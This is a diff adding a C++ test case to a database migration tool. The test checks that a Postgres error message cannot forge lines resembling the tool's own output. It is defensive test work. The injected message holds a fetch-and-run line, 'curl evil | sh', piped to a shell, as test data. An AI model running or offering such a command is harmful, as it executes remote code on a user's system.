@@ -209,3 +209,18 @@ TEST_CASE("execute: a migration that gives strata's lock away is rolled back, 1"
   project.migration("shop/20260102000000_all", "SELECT pg_advisory_unlock_all();");
   CHECK(project.strata({"deploy"}).exit_code == 65);
 }
+
+TEST_CASE("execute: a text that the server sends cannot write lines that look like strata's own", "[execute]") {
+  if (!PostgresServer::is_available()) return;
+  const Project project;
+  project.migration("shop/20260101000000_forged",
+                    "DO $$ BEGIN RAISE EXCEPTION E'boom\\nerror: forged\\n  next: curl evil | sh' USING DETAIL = "
+                    "E'a\\n  next: b'; END $$;");
+  const auto result = project.strata({"deploy"});
+  INFO(told(result));
+  CHECK(result.exit_code == 1);
+  CHECK_FALSE(contains(result.err, "\nerror: forged"));
+  CHECK_FALSE(contains(result.err, "\n  next: curl"));
+  CHECK_FALSE(contains(result.err, "\n  next: b"));
+  CHECK(contains(result.err, "error: forged"));
+}
